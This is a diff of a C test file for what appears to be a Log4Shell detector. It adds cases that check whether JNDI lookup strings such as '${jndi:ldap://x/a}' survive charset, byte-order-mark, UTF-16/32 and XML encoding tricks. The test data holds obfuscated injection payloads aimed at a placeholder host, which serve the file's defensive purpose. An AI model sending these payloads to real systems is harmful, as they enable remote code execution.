@@ -3,6 +3,7 @@
 
 #include <zlib.h>
 
+#define ZEROS "00000000000000000000000000000000000000000000000000000000000000000000000000000000"
 #define P "${jndi:ldap://x/a}"
 #define W32(c) "\0\0\0" c
 #define W32L(c) c "\0\0\0"
@@ -172,6 +173,23 @@ static void test_charsets(void **state)
         {"text/plain; charset=utf-8; charset=ibm037", "limit charset body"},
         {"text/plain; charset=ibm037; charset=utf-8", "limit charset body"},
         {"text/plain; charset=utf-8,text/plain; charset=ibm037", "limit charset body"},
+        {"text/plain; charset*=utf-8''utf-7", "limit charset body"},
+        {"text/plain; charset=windows-iso2022jp", "limit charset body"},
+        {"text/plain; charset=windows-31j", "nothing"},
+        {FORM "; charset=utf-32", "limit charset body"},
+        {FORM "; charset=utf-16", "nothing"},
+        /* which type counts, and where parts end, too */
+        {"text/plain,application/xml", "limit encoding body"},
+        {"text/plain; charset=utf-8, TEXT/plain; charset=utf-8", "nothing"},
+        {MULTI, "nothing"},
+        {"multipart/form-data; x=\"a;b\"; boundary=\"b\"; boundary=b", "nothing"},
+        {"multipart/form-data", "limit encoding body"},
+        {"multipart/form-data,boundary=b", "limit encoding body"},
+        {"multipart/form-data; boundary*=utf-8''b", "limit encoding body"},
+        {"multipart/form-data; boundary*0=b; boundary=b", "limit encoding body"},
+        {"multipart/form-data; boundary=a; boundary=b", "limit encoding body"},
+        {"multipart/form-data; boundary=\"\\b\"", "limit encoding body"},
+        {"multipart/form-data; boundary=", "limit encoding body"},
     };
     struct probe p;
     (void)state;
@@ -182,6 +200,20 @@ static void test_charsets(void **state)
     body_is(&p, "application/json; charset=utf-16le", "",
             SLICE_LIT("$\0{\0j\0n\0d\0i\0:\0d\0n\0s\0:\0/\0/\0x\0}\0"),
             "lookup reaches json: dns://x");
+    /* a mark tells, whatever the type */
+    body_is(&p, "text/plain", "",
+            SLICE_LIT("\xff\xfe\0\0" W32L("$") W32L("{") W32L("j") W32L("n") W32L("d") W32L("i")
+                          W32L(":") W32L("x") W32L("}")),
+            "lookup reaches body x");
+    body_is(&p, FORM, "",
+            SLICE_LIT("\0\0\xfe\xff" W32("a") W32("=") W32("$") W32("{") W32("j") W32("n") W32("d")
+                          W32("i") W32(":") W32("x") W32("}")),
+            "lookup reaches form:\\ufeffa x");
+    body_is(&p, "text/html", "",
+            SLICE_LIT("\xfe\xff\0&\0#\0"
+                      "3\0"
+                      "6\0;\0{\0j\0n\0d\0i\0:\0x\0}"),
+            "lookup reaches body x");
     /* UTF-32, said or seen */
     body_is(&p, "application/json", "",
             SLICE_LIT("\0\0\0[\0\0\0\"" W32("$") W32("{") W32("j") W32("n") W32("d") W32("i")
@@ -414,6 +446,16 @@ static void test_said(void **state)
         {XML, "<!DOCTYPE a [<!ENTITY j '{jn'>]><a>$&j;di:ldap://x/a}</a>", "limit encoding body"},
         {XML, "<!DOCTYPE a SYSTEM 'b.dtd'><a>$ <b>{x}</b><![CDATA[$]]>{y}</a>", "nothing"},
         {XML, "\x4c\x6f\xa7\x94\x93", "limit charset body"},
+        {XML, "<?xml version=\"1.0\" encoding='utf-8'?><a/>", "nothing"},
+        {XML, "<?xml version='1.0' encoding = \"UTF-16\" standalone='yes'?><a/>", "nothing"},
+        {XML, "<?xml version='1.0'?><a encoding='ibm037'/>", "nothing"},
+        {XML, "<?xml-stylesheet encoding='ibm037'?><a/>", "nothing"},
+        {XML, "\xef\xbb\xbf<?xml version='1.0'\tencoding='ibm037'?><a/>", "limit charset body"},
+        {XML, "<?xml\n\n\n\nencoding \n=\t\"UCS-4\"?><a/>", "limit charset body"},
+        {XML, "<?xml encoding=''?><a/>", "nothing"},
+        {XML, "<?xml encoding?><a/>", "nothing"},
+        {XML, "<?xml version='1.0' a='" ZEROS ZEROS "' encoding='utf-8'?><a/>",
+         "limit charset body"},
         {MULTI, PART("name=n; filename=\"=?UTF-8?Q?=24=7Bjndi:ldap://x/a=7D?=\"", "x"),
          "lookup reaches body ldap://x/a"},
         {MULTI, PART("name=n; filename=\"=?utf-8?q?$?= \t=?UTF-8?Q?{jndi:ldap://x/a}?=\"", "x"),
@@ -501,7 +543,6 @@ static void test_said(void **state)
 }
 
 /* Spellings that readers are lenient about, in the bytes as they are. */
-#define ZEROS "00000000000000000000000000000000000000000000000000000000000000000000000000000000"
 #define MORE_ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS
 static void test_lenient(void **state)
 {
